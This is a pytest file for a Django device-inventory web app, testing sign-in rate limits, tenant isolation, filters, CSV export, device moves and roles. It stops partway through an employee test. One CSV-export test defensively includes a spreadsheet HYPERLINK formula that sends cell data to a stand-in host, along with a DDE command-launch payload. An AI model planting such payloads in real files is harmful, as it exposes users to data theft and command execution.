"""The cockpit through Django's test client: sign-in, tenancy, inventory, device moves, roles, people."""

import csv
import io

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from core.actors import Actor
from core.models import AuditEvent, Employee, Group, Membership
from devices import services as device_services
from devices.models import Device, DeviceHistory
from tests.conftest import PASSWORD, member
from tests.factories import DeviceFactory, EmployeeFactory, GroupFactory, MembershipFactory

# --- helpers and fixtures ----------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _clear_cache():
    """Login rate limits live in the cache: every test starts (and leaves) it empty."""
    cache.clear()
    yield
    cache.clear()


def url(name, org, *args, **query):
    path = reverse(name, args=[org.slug, *args])
    if query:
        from urllib.parse import urlencode

        path += "?" + urlencode(query)
    return path


def move_url(org, device, move):
    return reverse("device_move", args=[org.slug, device.pk, move])


def listed_pks(response) -> list[int]:
    return [obj.pk for obj in response.context["page"].object_list]


def export_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def client_for(client, user):
    client.force_login(user)
    return client


def reload(device) -> Device:
    return Device.objects.get(pk=device.pk)


@pytest.fixture
def fleet(org, employee, actor):
    """One device of each (availability, assignment) combination, spread over platforms and groups."""
    engineering = GroupFactory(organization=org, name="Engineering")
    sales = GroupFactory(organization=org, name="Sales")
    grace = EmployeeFactory(organization=org, full_name="Grace Hopper", email="grace@acme.test")

    assigned = DeviceFactory(organization=org, name="ada-mbp", serial_number="C02ADA001", platform="macos")
    assigned.groups.add(engineering)
    assigned = device_services.device_assign(device=assigned, employee=employee, actor=actor)

    stock = DeviceFactory(organization=org, name="stock-thinkpad", serial_number="PF0STOCK1", platform="windows")
    stock.groups.add(sales)

    loose = DeviceFactory(organization=org, name="lab-linux", serial_number="LNX000001", platform="linux")
    loose = device_services.device_assign(device=loose, employee=grace, actor=actor)
    loose = device_services.device_unassign(device=loose, actor=actor)

    archived = DeviceFactory(organization=org, name="old-iphone", serial_number="IPH000001", platform="ios")
    archived = device_services.device_archive(device=archived, actor=actor)

    broken = DeviceFactory(organization=org, name="grace-pixel", serial_number="PIX000001", platform="android")
    broken = device_services.device_assign(device=broken, employee=grace, actor=actor)
    Device.objects.filter(pk=broken.pk).update(
        enrollment_issues=["agent_missing", "offline"], enrollment_status="partially_enrolled"
    )
    return {
        "assigned": assigned, "stock": stock, "loose": loose, "archived": archived, "broken": reload(broken),
        "engineering": engineering, "sales": sales, "grace": grace,
    }


# --- sign-in -----------------------------------------------------------------------------------


def test_login_with_the_right_password_signs_in_and_lands_on_the_dashboard(client, org, admin_user):
    response = client.post("/login/", {"username": admin_user.username, "password": PASSWORD}, follow=True)
    assert response.status_code == 200
    assert int(client.session["_auth_user_id"]) == admin_user.pk
    # One organization: home sends the user straight to its dashboard.
    assert response.redirect_chain[-1][0] == reverse("dashboard", args=[org.slug])


def test_login_accepts_the_email_address_as_the_form_promises(client, org, admin_user):
    response = client.post("/login/", {"username": admin_user.email.upper(), "password": PASSWORD})
    assert response.status_code == 302
    assert int(client.session["_auth_user_id"]) == admin_user.pk


def test_login_with_a_bad_password_fails(client, admin_user):
    response = client.post("/login/", {"username": admin_user.username, "password": "wrong-password"})
    assert response.status_code == 200
    assert "_auth_user_id" not in client.session
    assert response.context["form"].non_field_errors()
    assert "correct" in response.content.decode()  # Django's "Please enter a correct …" message


def test_login_is_rate_limited_after_repeated_failures(client, admin_user, settings):
    settings.LOGIN_RATE_LIMIT = (3, 300)
    for _ in range(3):
        response = client.post("/login/", {"username": admin_user.username, "password": "nope"})
        assert response.status_code == 200
    # Blocked now, even with the right password.
    response = client.post("/login/", {"username": admin_user.username, "password": PASSWORD})
    assert response.status_code == 429
    assert "Too many failed sign-in attempts" in response.content.decode()
    assert "_auth_user_id" not in client.session


def test_login_rate_limit_also_counts_per_address(client, org, settings):
    settings.LOGIN_RATE_LIMIT = (3, 300)
    other = member(org)
    for attempt in range(3):
        client.post("/login/", {"username": f"guess{attempt}", "password": "nope"})
    response = client.post("/login/", {"username": other.username, "password": PASSWORD})
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


def test_login_rate_limit_is_per_address_and_name_not_global(client, admin_user, settings):
    settings.LOGIN_RATE_LIMIT = (3, 300)
    for _ in range(3):
        client.post("/login/", {"username": admin_user.username, "password": "nope"}, REMOTE_ADDR="10.0.0.1")
    response = client.post("/login/", {"username": "someone-else", "password": "nope"}, REMOTE_ADDR="10.0.0.2")
    assert response.status_code == 200


@pytest.mark.parametrize("path", ["", "devices/", "devices/export.csv", "devices/new/", "employees/", "groups/",
                                  "audit/"])
def test_anonymous_is_sent_to_login(client, org, path):
    response = client.get(f"/o/{org.slug}/{path}")
    assert response.status_code == 302
    assert response["Location"] == f"/login/?next=/o/{org.slug}/{path}"


def test_anonymous_cannot_post_a_move(client, device):
    response = client.post(move_url(device.organization, device, "archive"), {"version": device.version})
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")
    assert reload(device).availability_status == "in_stock"


def test_another_organization_is_a_404(cockpit_client, other_org):
    foreign = DeviceFactory(organization=other_org)
    assert cockpit_client.get(f"/o/{other_org.slug}/").status_code == 404
    assert cockpit_client.get(f"/o/{other_org.slug}/devices/{foreign.pk}/").status_code == 404


def test_another_organizations_objects_are_404_under_my_organization(cockpit_client, org, other_org):
    foreign_device = DeviceFactory(organization=other_org)
    foreign_employee = EmployeeFactory(organization=other_org)
    foreign_group = GroupFactory(organization=other_org)
    assert cockpit_client.get(url("device_detail", org, foreign_device.pk)).status_code == 404
    assert cockpit_client.post(
        move_url(org, foreign_device, "archive"), {"version": foreign_device.version}
    ).status_code == 404
    assert cockpit_client.get(url("employee_detail", org, foreign_employee.pk)).status_code == 404
    assert cockpit_client.get(url("group_detail", org, foreign_group.pk)).status_code == 404
    assert reload(foreign_device).availability_status == "in_stock"


def test_home_redirects_anonymous_to_login(client):
    response = client.get("/")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


# --- dashboard ---------------------------------------------------------------------------------


def test_dashboard_shows_counts(cockpit_client, org, fleet):
    response = cockpit_client.get(url("dashboard", org))
    assert response.status_code == 200
    ctx = response.context
    assert ctx["active_total"] == 4  # five devices, one archived
    assert ctx["to_assign"] == 1  # lab-linux: in use, nobody owns it
    assert ctx["counts"]["enrollment"]["partially_enrolled"] == 1
    bars = {bar["label"]: bar["count"] for bar in ctx["status_bars"]}
    assert bars == {"In use · assigned": 2, "In stock · to assign": 1, "In use · to assign": 1}
    platforms = {bar["value"]: bar["count"] for bar in ctx["platform_bars"]}
    assert platforms == {"macos": 1, "windows": 1, "linux": 1, "android": 1}  # archived iOS not counted
    html = response.content.decode()
    assert "devices in use or in stock" in html and "1 archived, not counted" in html
    assert "?availability_status=in_use&amp;assignment_status=to_assign" in html


def test_dashboard_counts_one_way_and_sets_archived_apart(cockpit_client, org, fleet):
    """The headline, the availability bars and their percentages count the same devices (in use or in stock);
    the archived ones are named apart, and with them the total is the inventory's."""
    ctx = cockpit_client.get(url("dashboard", org)).context
    bars = ctx["status_bars"]
    assert sum(bar["count"] for bar in bars) == ctx["active_total"] == 4
    assert [bar["percent"] for bar in bars] == [50, 25, 25]  # of the 4, not of the 5 with the archived one
    assert sum(bar["count"] for bar in ctx["enrollment_bars"]) == ctx["active_total"]
    assert sum(bar["count"] for bar in ctx["platform_bars"]) == ctx["active_total"]
    assert ctx["archived"] == 1
    inventory = cockpit_client.get(url("device_list", org)).context["page"].paginator.count
    archived = cockpit_client.get(url("device_list", org, availability_status="archived")).context["page"]
    assert ctx["active_total"] + ctx["archived"] == inventory == 5
    assert archived.paginator.count == ctx["archived"]
    html = cockpit_client.get(url("dashboard", org)).content.decode()
    assert f'href="{url("device_list", org)}?availability_status=archived">1 archived device</a> is not counted' in html


def test_dashboard_of_an_empty_organization(cockpit_client, org):
    response = cockpit_client.get(url("dashboard", org))
    assert response.status_code == 200
    assert response.context["active_total"] == 0
    assert "No devices yet." in response.content.decode()


# --- inventory: filters, sorting, pagination ----------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"availability_status": "in_use"}, {"assigned", "loose", "broken"}),
        ({"availability_status": "in_stock"}, {"stock"}),
        ({"availability_status": "archived"}, {"archived"}),
        ({"assignment_status": "assigned"}, {"assigned", "broken"}),
        ({"assignment_status": "to_assign"}, {"stock", "loose"}),
        ({"availability_status": "in_use", "assignment_status": "to_assign"}, {"loose"}),
        ({"enrollment_status": "partially_enrolled"}, {"broken"}),
        ({"enrollment_status": "awaiting_activation"}, {"assigned", "stock", "loose", "archived"}),
        ({"enrollment_issue": "offline"}, {"broken"}),
        ({"platform": "windows"}, {"stock"}),
        ({"platform": "macos"}, {"assigned"}),
        ({"platform": "chromeos"}, set()),
        ({"group": "Engineering"}, {"assigned"}),
        ({"group": "engineering"}, {"assigned"}),
        ({"group": "Sales"}, {"stock"}),
        ({"assignee_email": "ADA@acme.test"}, {"assigned"}),
        ({"serial_number": " pf0stock1 "}, {"stock"}),
        ({"search": "thinkpad"}, {"stock"}),
        ({"search": "C02ADA"}, {"assigned"}),
        ({"search": "grace@"}, {"broken"}),
        ({"search": "Lovelace"}, {"assigned"}),
    ],
)
def test_inventory_filters(cockpit_client, org, fleet, query, expected):
    response = cockpit_client.get(url("device_list", org, **query))
    assert response.status_code == 200
    assert not response.context["filter"].errors
    assert set(listed_pks(response)) == {fleet[key].pk for key in expected}


def test_inventory_filters_by_assignee_id(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org, assignee=fleet["grace"].pk))
    assert set(listed_pks(response)) == {fleet["broken"].pk}


def test_inventory_lists_rows_with_badges_and_links(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org))
    html = response.content.decode()
    assert len(listed_pks(response)) == 5
    assert reverse("device_detail", args=[org.slug, fleet["assigned"].pk]) in html
    assert '<span class="badge badge-bad">Partially enrolled</span>' in html
    assert "Ada Lovelace" in html
    assert '<span class="tag">Engineering</span>' in html


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"platform": "amiga"}, "Select a valid choice"),
        ({"availability_status": "lost"}, "Select a valid choice"),
        ({"assignee": "not-a-number"}, "Select a valid choice"),
        ({"group": "No such group"}, "Unknown group"),
    ],
)
def test_inventory_invalid_filter_shows_an_error_not_a_crash(cockpit_client, org, fleet, query, message):
    response = cockpit_client.get(url("device_list", org, **query))
    assert response.status_code == 200
    assert response.context["filter"].errors
    assert message in response.content.decode()
    assert listed_pks(response) == []


def test_inventory_another_organizations_group_or_employee_is_an_invalid_filter(cockpit_client, org, other_org, fleet):
    foreign_group = GroupFactory(organization=other_org, name="Secret")
    foreign_employee = EmployeeFactory(organization=other_org)
    for query in ({"group": foreign_group.name}, {"assignee": foreign_employee.pk}):
        response = cockpit_client.get(url("device_list", org, **query))
        assert response.status_code == 200
        assert response.context["filter"].errors
        assert listed_pks(response) == []


def test_inventory_sorting(cockpit_client, org, fleet):
    by_name = listed_pks(cockpit_client.get(url("device_list", org, ordering="name")))
    names = list(Device.objects.filter(pk__in=by_name).order_by("name").values_list("pk", flat=True))
    assert by_name == names
    assert listed_pks(cockpit_client.get(url("device_list", org, ordering="-name"))) == names[::-1]

    by_serial = listed_pks(cockpit_client.get(url("device_list", org, ordering="serial_number")))
    assert by_serial[0] == fleet["assigned"].pk  # C02… sorts first
    assert by_serial[-1] == fleet["broken"].pk  # PIX… sorts last

    html = cockpit_client.get(url("device_list", org, ordering="name")).content.decode()
    assert "?ordering=-name" in html  # the active column header toggles the direction
    assert "Name ▲" in html


def test_inventory_sorting_keeps_filters(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_list", org, platform="windows", ordering="-name"))
    assert set(listed_pks(response)) == {fleet["stock"].pk}
    assert "platform=windows" in response.content.decode()


def test_inventory_pagination(cockpit_client, org):
    DeviceFactory.create_batch(120, organization=org)
    first = cockpit_client.get(url("device_list", org))
    assert first.context["page"].paginator.count == 120
    assert first.context["page"].paginator.num_pages == 3
    assert len(listed_pks(first)) == 50
    assert "120 results" in first.content.decode()
    assert "page=2" in first.content.decode()

    seen = []
    for number in (1, 2, 3):
        seen += listed_pks(cockpit_client.get(url("device_list", org, page=number)))
    assert len(seen) == 120 and len(set(seen)) == 120

    # Out of range or garbage page numbers fall back to a real page instead of crashing.
    assert listed_pks(cockpit_client.get(url("device_list", org, page=99))) == seen[100:]
    assert listed_pks(cockpit_client.get(url("device_list", org, page="abc"))) == seen[:50]


def test_inventory_pagination_is_stable_when_sorting_on_a_column_with_ties(cockpit_client, org, actor):
    ada = EmployeeFactory(organization=org, full_name="Ada")
    devices = DeviceFactory.create_batch(110, organization=org)
    for device in devices[:60]:
        device_services.device_assign(device=device, employee=ada, actor=actor)
    seen = []
    for number in (1, 2, 3):
        response = cockpit_client.get(url("device_list", org, ordering="assignee", page=number))
        seen += listed_pks(response)
        # The database may return tied rows in any order: the primary key settles it.
        assert list(response.context["page"].paginator.object_list.query.order_by) == ["assignee__full_name", "-pk"]
    assert sorted(seen) == sorted(d.pk for d in devices)


# --- CSV export --------------------------------------------------------------------------------


def test_export_csv_has_a_header_and_every_device(cockpit_client, org, fleet):
    response = cockpit_client.get(url("device_export", org))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="devices-{org.slug}-')
    rows = export_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Serial number", "Name", "Platform"]
    assert len(body) == 5
    by_serial = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    ada = by_serial["C02ADA001"]
    assert ada["Name"] == "ada-mbp"
    assert ada["Platform"] == "macOS"
    assert ada["Availability"] == "In use"
    assert ada["Assignment"] == "Assigned"
    assert ada["Assignee e-mail"] == "ada@acme.test"
    assert ada["Assignee name"] == "Ada Lovelace"
    assert ada["Groups"] == "Engineering"
    assert by_serial["IPH000001"]["Assignment"] == ""  # archived: no assignment status
    assert by_serial["PIX000001"]["Enrollment issues"] == "agent_missing/offline"


def test_export_csv_applies_the_filters(cockpit_client, org, fleet):
    rows = export_rows(cockpit_client.get(url("device_export", org, platform="windows")))
    assert [row[0] for row in rows[1:]] == ["PF0STOCK1"]
    rows = export_rows(cockpit_client.get(url("device_export", org, assignment_status="assigned")))
    assert {row[0] for row in rows[1:]} == {"C02ADA001", "PIX000001"}
    rows = export_rows(cockpit_client.get(url("device_export", org, search="lovelace")))
    assert [row[0] for row in rows[1:]] == ["C02ADA001"]


def test_export_csv_of_an_invalid_filter_is_empty_not_everything(cockpit_client, org, fleet):
    rows = export_rows(cockpit_client.get(url("device_export", org, platform="amiga")))
    assert len(rows) == 1  # header only


def test_export_csv_cells_cannot_run_formulas(cockpit_client, org, actor):
    hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    for serial, name in (("F1", hyperlink), ("F2", "+1"), ("F3", "@x"), ("F4", "-2+3"), ("F5", "plain")):
        DeviceFactory(organization=org, serial_number=serial, name=name)
    evil_employee = EmployeeFactory(organization=org, full_name="=cmd|' /C calc'!A0", email="evil@acme.test")
    group = GroupFactory(organization=org, name="@group")
    owned = DeviceFactory(organization=org, serial_number="F6", name="owned")
    owned.groups.add(group)
    device_services.device_assign(device=owned, employee=evil_employee, actor=actor)

    rows = export_rows(cockpit_client.get(url("device_export", org)))
    header = rows[0]
    by_serial = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_serial["F1"]["Name"] == "'" + hyperlink
    assert by_serial["F2"]["Name"] == "'+1"
    assert by_serial["F3"]["Name"] == "'@x"
    assert by_serial["F4"]["Name"] == "'-2+3"
    assert by_serial["F5"]["Name"] == "plain"
    assert by_serial["F6"]["Assignee name"] == "'=cmd|' /C calc'!A0"
    assert by_serial["F6"]["Groups"] == "'@group"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_export_csv_is_scoped_to_the_organization(cockpit_client, org, other_org):
    DeviceFactory(organization=org, serial_number="MINE1")
    DeviceFactory(organization=other_org, serial_number="THEIRS1")
    rows = export_rows(cockpit_client.get(url("device_export", org)))
    assert [row[0] for row in rows[1:]] == ["MINE1"]


# --- device page -------------------------------------------------------------------------------


def test_device_page_shows_badges_owner_facts_and_history(cockpit_client, org, employee, actor):
    device = device_services.device_create(
        organization=org, actor=actor, serial_number="C02ASG001", name="assigned-mbp", platform="macos",
        model="MacBook Pro",
    )
    device = device_services.device_assign(device=device, employee=employee, actor=actor, reason="New starter")
    response = cockpit_client.get(url("device_detail", org, device.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert '<span class="badge badge-ok">In use</span>' in html
    assert '<span class="badge badge-ok">Assigned</span>' in html
    assert '<span class="badge badge-info">Awaiting activation</span>' in html
    assert reverse("employee_detail", args=[org.slug, employee.pk]) in html
    assert "Ada Lovelace" in html and "ada@acme.test" in html
    assert "C02ASG001" in html and "MacBook Pro" in html
    history = html.split('id="device-history"', 1)[1]
    assert "assigned assigned-mbp to ada@acme.test" in history
    assert "“New starter”" in history
    assert "added the device assigned-mbp" in history
    # Newest first.
    assert history.index("assigned assigned-mbp") < history.index("added the device")


def test_device_page_offers_only_the_moves_the_state_allows(cockpit_client, org, device, assigned_device, actor):
    actions = response_actions(cockpit_client, org, assigned_device)
    assert actions == {"reassign", "unassign", "return-to-stock", "archive"}
    assert response_actions(cockpit_client, org, device) == {"assign", "archive"}
    archived = device_services.device_archive(device=device, actor=actor)
    assert response_actions(cockpit_client, org, archived) == {"restore"}


def response_actions(client, org, device) -> set[str]:
    html = client.get(url("device_detail", org, device.pk)).content.decode()
    prefix = f"/o/{org.slug}/devices/{device.pk}/"
    moves = {"assign", "reassign", "unassign", "return-to-stock", "archive", "restore"}
    return {move for move in moves if f'href="{prefix}{move}/"' in html}


def test_device_page_shows_enrollment_issues(cockpit_client, org, fleet):
    html = cockpit_client.get(url("device_detail", org, fleet["broken"].pk)).content.decode()
    assert "Enrollment issues" in html
    assert "Agent missing" in html and "Offline" in html


def test_unknown_device_is_404(cockpit_client, org):
    assert cockpit_client.get(url("device_detail", org, 999999)).status_code == 404
    assert cockpit_client.get(f"/o/{org.slug}/devices/999999/assign/").status_code == 404


def test_unknown_move_is_404(cockpit_client, org, device):
    assert cockpit_client.get(move_url(org, device, "teleport")).status_code == 404


# --- the move confirmation page ----------------------------------------------------------------


def test_move_page_prechecks_wipe_when_the_owner_changes(cockpit_client, org, assigned_device):
    for move in ("reassign", "unassign", "return-to-stock", "archive"):
        response = cockpit_client.get(move_url(org, assigned_device, move))
        assert response.status_code == 200
        form = response.context["form"]
        assert form["wipe"].value() is True, move
        assert 'name="wipe" id="id_wipe" checked' in response.content.decode()
        assert form["version"].value() == assigned_device.version


def test_move_page_does_not_precheck_wipe_without_an_owner(cockpit_client, org, device):
    response = cockpit_client.get(move_url(org, device, "archive"))
    assert response.context["form"]["wipe"].value() is False
    assert "checked" not in response.content.decode().split('name="wipe"', 1)[1].split(">", 1)[0]


def test_assign_page_lists_active_employees_and_offers_no_wipe(cockpit_client, org, device, employee):
    gone = EmployeeFactory(organization=org, email="gone@acme.test", status=Employee.Status.OFFBOARDED)
    response = cockpit_client.get(move_url(org, device, "assign"))
    html = response.content.decode()
    assert "wipe" not in response.context["form"].fields
    assert '<option value="ada@acme.test">' in html
    assert gone.email not in html


# --- posting moves -----------------------------------------------------------------------------


def test_post_assign(cockpit_client, org, device, employee, admin_user):
    response = cockpit_client.post(
        move_url(org, device, "assign"),
        {"employee": "ADA@acme.test", "version": device.version, "reason": "New starter"},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("device_detail", args=[org.slug, device.pk])
    device = reload(device)
    assert (device.availability_status, device.assignment_status, device.assignee) == ("in_use", "assigned", employee)
    history = device.history.get(action=DeviceHistory.Action.ASSIGNED)
    assert history.source == "manual" and history.reason == "New starter"
    event = AuditEvent.objects.get(event="device.assigned", target_id=str(device.pk))
    assert event.actor_user == admin_user
    page = cockpit_client.get(response["Location"]).content.decode()
    assert "Assign: done for ada-mbp." in page
    assert "assigned ada-mbp to ada@acme.test" in page


def test_post_assign_accepts_the_datalist_form_name_and_email(cockpit_client, org, device, employee):
    response = cockpit_client.post(
        move_url(org, device, "assign"), {"employee": "Ada Lovelace <ada@acme.test>", "version": device.version}
    )
    assert response.status_code == 302
    assert reload(device).assignee == employee


def test_post_assign_to_an_unknown_email_is_a_form_error(cockpit_client, org, device):
    response = cockpit_client.post(
        move_url(org, device, "assign"), {"employee": "nobody@acme.test", "version": device.version}
    )
    assert response.status_code == 400
    assert "No employee with the e-mail nobody@acme.test." in response.content.decode()
    assert reload(device).assignee is None


def test_post_assign_to_an_offboarded_employee_is_refused(cockpit_client, org, device):
    gone = EmployeeFactory(organization=org, email="gone@acme.test", status=Employee.Status.OFFBOARDED)
    response = cockpit_client.post(move_url(org, device, "assign"), {"employee": gone.email, "version": device.version})
    assert response.status_code == 400
    assert "offboarded" in response.content.decode()
    assert reload(device).assignee is None
    assert not device.history.filter(action="assigned").exists()


def test_post_assign_does_not_reach_another_organizations_employee(cockpit_client, org, other_org, device):
    foreign = EmployeeFactory(organization=other_org, email="spy@globex.test")
    response = cockpit_client.post(move_url(org, device, "assign"), {"employee": foreign.email, "version": 1})
    assert response.status_code == 400
    assert reload(device).assignee is None


def test_post_reassign_with_wipe(cockpit_client, org, assigned_device, employee):
    grace = EmployeeFactory(organization=org, full_name="Grace Hopper", email="grace@acme.test")
    response = cockpit_client.post(
        move_url(org, assigned_device, "reassign"),
        {"employee": grace.email, "wipe": "on", "version": assigned_device.version},
    )
    assert response.status_code == 302
    device = reload(assigned_device)
    assert device.assignee == grace
    history = device.history.get(action="reassigned")
    assert history.assignee_before == employee and history.assignee_after == grace and history.wipe_requested
    page = cockpit_client.get(url("device_detail", org, device.pk)).content.decode()
    assert "reassigned assigned-mbp from ada@acme.test to grace@acme.test (wipe requested)" in page


def test_post_unassign(cockpit_client, org, assigned_device):
    response = cockpit_client.post(
        move_url(org, assigned_device, "unassign"), {"wipe": "on", "version": assigned_device.version}
    )
    assert response.status_code == 302
    device = reload(assigned_device)
    assert (device.availability_status, device.assignment_status, device.assignee) == ("in_use", "to_assign", None)
    assert device.history.get(action="unassigned").wipe_requested is True


def test_post_return_to_stock_without_wipe(cockpit_client, org, assigned_device):
    response = cockpit_client.post(move_url(org, assigned_device, "return-to-stock"),
                                   {"version": assigned_device.version})
    assert response.status_code == 302
    device = reload(assigned_device)
    assert (device.availability_status, device.assignment_status, device.assignee) == ("in_stock", "to_assign", None)
    assert device.history.get(action="returned_to_stock").wipe_requested is False


def test_post_archive_then_restore(cockpit_client, org, assigned_device):
    response = cockpit_client.post(
        move_url(org, assigned_device, "archive"),
        {"wipe": "on", "reason": "Broken screen", "version": assigned_device.version},
    )
    assert response.status_code == 302
    device = reload(assigned_device)
    assert (device.availability_status, device.assignment_status, device.assignee) == ("archived", None, None)
    assert device.archived_at is not None

    response = cockpit_client.post(move_url(org, device, "restore"), {"version": device.version})
    assert response.status_code == 302
    device = reload(device)
    assert (device.availability_status, device.assignment_status) == ("in_stock", "to_assign")
    assert device.archived_at is None
    assert list(device.history.values_list("action", flat=True)[:3]) == ["restored", "archived", "assigned"]
    page = cockpit_client.get(url("device_detail", org, device.pk)).content.decode()
    assert "“Broken screen”" in page


def test_post_a_stale_version_is_a_conflict_and_changes_nothing(cockpit_client, org, device, employee, actor):
    stale_version = device.version
    # Someone else assigns the device after our form was opened…
    device_services.device_assign(device=device, employee=employee, actor=actor)
    before = reload(device)
    history_before = before.history.count()
    audit_before = AuditEvent.objects.filter(organization=org).count()

    response = cockpit_client.post(
        move_url(org, device, "archive"), {"wipe": "on", "version": stale_version}
    )
    assert response.status_code == 409
    assert "changed by someone else" in response.content.decode()
    after = reload(device)
    assert (after.availability_status, after.assignment_status, after.assignee_id, after.version) == (
        before.availability_status, before.assignment_status, before.assignee_id, before.version
    )
    assert after.history.count() == history_before
    assert AuditEvent.objects.filter(organization=org).count() == audit_before


@pytest.mark.parametrize("move", ["unassign", "return-to-stock", "restore"])
def test_post_a_stale_version_is_409_for_every_move(cockpit_client, org, assigned_device, move, actor):
    device = assigned_device
    if move == "restore":
        device = device_services.device_archive(device=device, actor=actor)
    response = cockpit_client.post(move_url(org, device, move), {"version": device.version - 1})
    assert response.status_code == 409
    assert reload(device).version == device.version


def test_post_an_illegal_move_is_refused(cockpit_client, org, device, employee, actor):
    archived = device_services.device_archive(device=device, actor=actor)
    response = cockpit_client.post(
        move_url(org, archived, "assign"), {"employee": employee.email, "version": archived.version}
    )
    assert response.status_code == 409
    assert "restore it before you assign it" in response.content.decode()
    assert reload(archived).availability_status == "archived"

    response = cockpit_client.post(move_url(org, archived, "archive"), {"version": archived.version})
    assert response.status_code == 409
    assert "already archived" in response.content.decode()


def test_post_without_a_version_is_a_form_error(cockpit_client, org, assigned_device):
    response = cockpit_client.post(move_url(org, assigned_device, "unassign"), {"wipe": "on"})
    assert response.status_code == 400
    assert reload(assigned_device).assignee_id is not None


# --- roles -------------------------------------------------------------------------------------


@pytest.fixture
def viewer_client(client, org):
    return client_for(client, member(org, Membership.Role.VIEWER))


@pytest.fixture
def technician_client(client, org):
    return client_for(client, member(org, Membership.Role.TECHNICIAN))


def test_viewer_sees_no_action_buttons(viewer_client, org, assigned_device):
    response = viewer_client.get(url("device_detail", org, assigned_device.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="device-actions"' not in html
    assert f"/devices/{assigned_device.pk}/unassign/" not in html
    assert "assigned assigned-mbp to ada@acme.test" in html  # the history is still visible
    listing = viewer_client.get(url("device_list", org)).content.decode()
    assert reverse("device_create", args=[org.slug]) not in listing
    assert "Export CSV" in listing
    people = viewer_client.get(url("employee_list", org)).content.decode()
    assert reverse("employee_create", args=[org.slug]) not in people
    assert "New group" not in viewer_client.get(url("group_list", org)).content.decode()


@pytest.mark.parametrize("move", ["unassign", "return-to-stock", "archive", "reassign"])
def test_viewer_cannot_post_a_move(viewer_client, org, assigned_device, move):
    data = {"version": assigned_device.version, "wipe": "on", "employee": "ada@acme.test"}
    response = viewer_client.post(move_url(org, assigned_device, move), data)
    assert response.status_code == 403
    assert "Not allowed" in response.content.decode()
    device = reload(assigned_device)
    assert (device.availability_status, device.version) == ("in_use", assigned_device.version)
    assert viewer_client.get(move_url(org, assigned_device, move)).status_code == 403


def test_viewer_cannot_create_devices_employees_or_groups(viewer_client, org):
    assert viewer_client.get(url("device_create", org)).status_code == 403
    response = viewer_client.post(url("device_create", org), {"serial_number": "X1", "platform": "macos",
                                                               "ownership": "corporate", "usage": "individual"})
    assert response.status_code == 403
    assert not Device.objects.filter(organization=org).exists()

    assert viewer_client.get(url("employee_create", org)).status_code == 403
    response = viewer_client.post(url("employee_create", org), {"email": "new@acme.test"})
    assert response.status_code == 403
    assert not Employee.objects.filter(organization=org).exists()

    response = viewer_client.post(url("group_list", org), {"name": "Hackers"})
    assert response.status_code == 403
    assert not Group.objects.filter(organization=org).exists()


def test_viewer_can_read_every_page(viewer_client, org, assigned_device, employee):
    group = GroupFactory(organization=org)
    for path in (url("dashboard", org), url("device_list", org), url("device_export", org),
                 url("device_detail", org, assigned_device.pk), url("employee_list", org),
                 url("employee_detail", org, employee.pk), url("group_list", org), url("group_detail", org, group.pk),
                 url("audit_list", org)):
        assert viewer_client.get(path).status_code == 200, path


def test_technician_can_act_on_devices(technician_client, org, device, employee):
    response = technician_client.get(url("device_detail", org, device.pk))
    assert 'id="device-actions"' in response.content.decode()
    response = technician_client.post(move_url(org, device, "assign"), {"employee": employee.email, "version": 1})
    assert response.status_code == 302
    assert reload(device).assignee == employee

    response = technician_client.post(url("device_create", org), {
        "serial_number": "tech-001", "name": "spare", "platform": "linux", "ownership": "corporate",
        "usage": "individual",
    })
    assert response.status_code == 302
    created = Device.objects.get(organization=org, serial_number="TECH-001")
    assert (created.availability_status, created.assignment_status) == ("in_stock", "to_assign")


def test_technician_cannot_manage_people(technician_client, org):
    assert technician_client.get(url("employee_create", org)).status_code == 403
    response = technician_client.post(url("employee_create", org), {"email": "new@acme.test"})
    assert response.status_code == 403
    assert not Employee.objects.filter(organization=org).exists()
    response = technician_client.post(url("group_list", org), {"name": "Hackers"})
    assert response.status_code == 403
    assert not Group.objects.filter(organization=org).exists()


# --- add a device --------------------------------------------------------------------------------


def test_add_a_device(cockpit_client, org):
    group = GroupFactory(organization=org, name="Engineering")
    response = cockpit_client.post(url("device_create", org), {
        "serial_number": "c02new001", "name": "new-mbp", "platform": "macos", "model": "MacBook Air",
        "ownership": "corporate", "usage": "individual", "groups": [group.pk],
    })
    assert response.status_code == 302
    device = Device.objects.get(organization=org, serial_number="C02NEW001")
    assert response["Location"] == reverse("device_detail", args=[org.slug, device.pk])
    assert list(device.groups.all()) == [group]
    assert AuditEvent.objects.filter(event="device.created", target_id=str(device.pk)).exists()


def test_add_a_device_with_a_duplicate_serial_is_a_form_error(cockpit_client, org, device):
    response = cockpit_client.post(url("device_create", org), {
        "serial_number": device.serial_number.lower(), "platform": "macos", "ownership": "corporate",
        "usage": "individual",
    })
    assert response.status_code == 400
    assert "already exists" in response.content.decode()
    assert Device.objects.filter(organization=org).count() == 1


# --- employees -----------------------------------------------------------------------------------


def test_employee_list_and_search(cockpit_client, org, employee, assigned_device):
    EmployeeFactory(organization=org, full_name="Grace Hopper", email="grace@acme.test")
    response = cockpit_client.get(url("employee_list", org))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Ada Lovelace" in html and "Grace Hopper" in html
    assert "[invalid name]" not in html  # every filter has a readable label
    rows = {e.email: e for e in response.context["page"].object_list}
